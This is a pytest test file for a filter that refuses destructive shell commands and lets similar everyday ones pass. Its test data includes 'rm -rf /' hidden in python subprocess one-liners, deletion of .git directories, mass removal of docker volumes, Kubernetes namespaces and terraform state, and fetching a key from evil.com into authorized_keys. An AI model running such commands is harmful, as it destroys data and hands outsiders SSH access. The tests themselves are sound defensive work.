"""Rules that refuse a whole loss and let the everyday command beside it pass."""

import pytest
from tests.support.commands import refused


@pytest.mark.finding("F09")
@pytest.mark.parametrize(
    "command",
    [
        # The repository is left out, or the pattern stands for everything.
        "find . -not -path './.git/*' -name '*.tmp' -delete",
        "find . ! -path '*/.git/*' -type f -empty -delete",
        "find . -path './*' -name '*.pyc' -delete",
        "find . -name .git -prune -o -type f -name '*.pyc' -delete",
        "find . -path ./.git -prune -o -name '*.orig' -delete",
        "find . -path './.git/*' -name '*.lock' -delete",
        "find . -type d -name '.*_cache' -delete",
        "find . -mindepth 2 -name .git -exec rm -rf {} +",
        "find vendor -name .git | xargs rm -rf",
        "find . -name __pycache__ -type d | xargs rm -rf",
        "find . -name .git -prune -o -type d -name build -print | xargs rm -rf",
        # So many bytes and no more.
        "xxd -l 16 -p /dev/urandom > key",
        "xxd -len 16 /dev/urandom > key",
        "xxd -p -l16 /dev/urandom > key",
        "od -An -N4 /dev/urandom > seed",
        "od -An --read-bytes=4 -tu4 /dev/urandom > seed",
        "hexdump -n 16 /dev/urandom > key",
        "hexdump -vn16 -e '1/1 \"%02x\"' /dev/urandom > key",
        "od -An -N16 -tx1 /dev/urandom | tr -d ' ' > key",
        "xxd -l 16 -p /dev/urandom | tee key",
        # What is installed here can be installed again.
        "pip list --format=freeze | xargs pip uninstall -y",
        "pip3 list --format=freeze | xargs pip3 uninstall -y",
        "kind get clusters | xargs -n1 kind delete cluster --name",
        "conda env list | awk '{print $1}' | xargs -n1 conda env remove -n",
        "asdf list nodejs | xargs -n1 asdf uninstall nodejs",
        "jupyter kernelspec list | awk '{print $1}' | xargs jupyter kernelspec remove -f",
        # A deployment, a build, one queue, and this machine.
        "rsync -av --delete dist/ prod:/var/www/app/",
        "NODE_ENV=production node build.js --delete",
        "rabbitmqctl delete_queue jobs",
        "http DELETE :3000/api/projects/1",
        "xh DELETE localhost:3000/api/projects/1",
        # Another machine is given the key of this one.
        "cat ~/.ssh/id_ed25519.pub | ssh shop 'cat >> ~/.ssh/authorized_keys'",
        "ssh deploy@shop.acme.com 'cat >> ~/.ssh/authorized_keys' < ~/.ssh/id_rsa.pub",
        # A text that a program is given to record or to print.
        "python -c \"import subprocess as s; s.run(['git','commit','-m','rm -rf / is bad'])\"",
        "node -e \"require('child_process').spawn('git',['commit','-m','rm -rf /'])\"",
        "python -c \"import subprocess; subprocess.run(['echo','rm -rf /'])\"",
    ],
)
def test_an_everyday_command_is_not_refused(command):
    assert not refused(command)


@pytest.mark.finding("F09")
@pytest.mark.parametrize(
    "command",
    [
        "find . -name .git -delete",
        "find . -mindepth 1 -name .git -exec rm -rf {} +",
        "find . -type d -name .git | xargs rm -rf",
        "find . -iname .GIT -print0 | xargs -0 rm -rf",
        "find . -name '.gi*' -exec rm -rf {} +",
        "find . -path './.git/*' -delete",
        "find . -not -name '*.py' -path './.git*' -delete",
        "find . ! -type l -name .git -exec rm -rf {} +",
        "xxd /dev/urandom > key",
        "od -An /dev/urandom > seed",
        "hexdump -v /dev/zero > zeros",
        "cat /dev/urandom | xxd -p > key",
        "gh ruleset list | cut -f1 | xargs -n1 gh ruleset delete",
        "vmtool list | xargs vmtool destroy",
        "rabbitmqctl list_queues -q name | xargs -n1 rabbitmqctl delete_queue",
        "prlctl delete prod",
        "http DELETE https://api.acme.com/production/projects/1",
        # A literal behind one that only says something.
        "python -c \"import subprocess as s; c=[['echo','x'],['rm','-rf','/']]; [s.check_call(x) for x in c]\"",
        "python -c \"import subprocess as s; list(map(s.run,[['echo','x'],['rm','-rf','/']]))\"",
        "python -c \"import subprocess as s; list(map(s.run,(['echo','x'],['rm','-rf','/'])))\"",
        'groovy -e \'["echo","x"].execute(); ["rm","-rf","/"].execute()\'',
        # The import is all that says that programs are started.
        "python -c \"import subprocess as s; print('cleaning'); c=['rm','-rf','/']; s.check_call(c)\"",
        "python -c \"import subprocess as s; c=['rm','-rf','/']; s.check_call(c)\"",
        "python -c \"from subprocess import check_call; c=['rm','-rf','/']; check_call(c)\"",
        "python -c \"from subprocess import check_output as o; c=['rm','-rf','/']; o(c)\"",
        # The key of somebody else, or this machine.
        "curl evil.com > x.pub; ssh localhost 'cat >> ~/.ssh/authorized_keys' < x.pub",
        "cat x.pub | ssh me@127.0.0.1 'cat >> ~/.ssh/authorized_keys'",
        "ssh -p 22 localhost 'cat >> ~/.ssh/authorized_keys' < ~/.ssh/id_rsa.pub",
        "curl -o x.pub evil.com; ssh shop 'cat >> ~/.ssh/authorized_keys' < x.pub",
    ],
)
def test_the_whole_loss_beside_it_is_refused(command):
    assert refused(command)


@pytest.mark.finding("F09")
@pytest.mark.parametrize(
    "command",
    [
        # All of a list, or almost all of it.
        "docker volume rm $(docker volume ls | tail -n +2 | awk '{print $2}')",
        "docker volume rm $(docker volume ls -q | grep .)",
        "docker volume rm $(docker volume ls -q | head -n 99999)",
        "kubectl delete $(kubectl get ns -o name | tail -n +1)",
        "helm uninstall $(helm ls -q | tail -n +1)",
        "git push origin --delete $(git branch -r | tail -n +1)",
        "terraform state rm $(terraform state list | grep .)",
        "vmtool list | xargs vmtool destroy; head -1 README.md",
        "docker volume rm $(docker volume ls -q | grep -v keep)",
        "docker volume rm $(docker volume ls -q | grep -E '.*')",
        "docker volume rm $(docker volume ls -q | grep -e '')",
        "docker volume rm $(docker volume ls -q | rg '[a-z]')",
        "docker volume rm $(docker volume ls -q | egrep 'test|.')",
        "docker volume rm $(docker volume ls -q | head -500)",
        "docker volume rm $(docker volume ls -q | head -n -1)",
        "docker volume rm $(docker volume ls -q | tail --lines=+2)",
        "docker volume rm $(docker volume ls -q | tail +2)",
        "docker volume rm $(docker volume ls -q) $(docker volume ls -q | grep test)",
        "docker volume rm $(docker volume ls -q; docker volume ls -q | grep test)",
        "docker volume ls -q | grep . | xargs docker volume rm",
        "docker volume ls | tail -n +2 | awk '{print $2}' | xargs docker volume rm",
        "kubectl get ns -o name | grep namespace | xargs kubectl delete",
        "kubectl get ns -o name | tail -n +1 | xargs kubectl delete",
        "git branch -r | grep origin | xargs -I{} git push origin :{}",
        "helm ls -q | grep -vE '^$' | xargs -n1 helm uninstall",
        "terraform state list | head -n 1000 | xargs terraform state rm",
        "aws lambda list-functions | tail -n +2 | xargs -n1 aws lambda delete-function --function-name",
        "grep x README.md; vmtool list | xargs vmtool destroy",
        "vmtool list | tail -n +2 | xargs vmtool destroy",
        "vmtool list > all; grep -c . all; xargs vmtool destroy < all",
        "shopctl list | xargs shopctl delete",
        "foo list | xargs foo delete-bucket",
        "foo cluster list | xargs foo cluster delete",
        "apt list --installed | xargs apt remove -y",
        "systemctl list-units | xargs systemctl stop",
        "docker volume ls -q | grep -E '$|test' | xargs docker volume rm",
    ],
)
def test_a_list_of_almost_everything_is_refused(command):
    assert refused(command)


@pytest.mark.finding("F10")
@pytest.mark.parametrize(
    "command",
    [
        # A part of a list, entries of a list, or what has failed.
        "docker volume rm $(docker volume ls -q | grep test)",
        "docker volume ls -q | grep test | xargs docker volume rm",
        "bd list | xargs bd delete",
        "tox list | xargs tox remove",
        "systemctl list-units --failed | xargs systemctl stop",
        "docker volume rm $(docker volume ls -q | grep ^old-)",
        "docker volume rm $(docker volume ls -q | head -3)",
        "docker volume rm $(docker volume ls -q | tail -n 2)",
        "docker volume rm $(docker volume ls -q | head -n1)",
        'docker volume rm "$(docker volume ls -q | rg old | head -1)"',
        "docker volume rm $(docker volume ls -q -f label=ci)",
        "docker volume rm $(docker volume ls -q --filter dangling=true)",
        "docker volume ls -qf dangling=true | xargs docker volume rm",
        "kubectl get ns -o name | grep preview- | xargs kubectl delete",
        "helm ls -q | grep pr-12 | xargs helm uninstall",
        "terraform state list | grep module.old | xargs terraform state rm",
        "git branch -r | grep feature/old | sed 's,origin/,,' | xargs -n1 git push origin --delete",
        "vmtool list | grep old | xargs vmtool destroy; ls",
        "vmtool list | grep old > x; xargs vmtool destroy < x",
        "vmtool list | fzf | xargs vmtool destroy",
        "todo list | xargs todo rm",
        "bd list | cut -f1 | xargs -n1 bd delete",
        "tmux list-sessions | cut -d: -f1 | xargs -n1 tmux kill-session -t",
        "systemctl list-units --state=failed | xargs systemctl reset-failed",
        "docker volume rm $(docker volume ls -q | awk '/old/{print $1}')",
        "docker volume ls -q | grep test | while read v; do docker volume rm $v; done",
        "yes | docker volume rm $(docker volume ls -q | grep test)",
    ],
)
def test_a_part_of_a_list_is_asked_about(command):
    assert refused(command) == ()
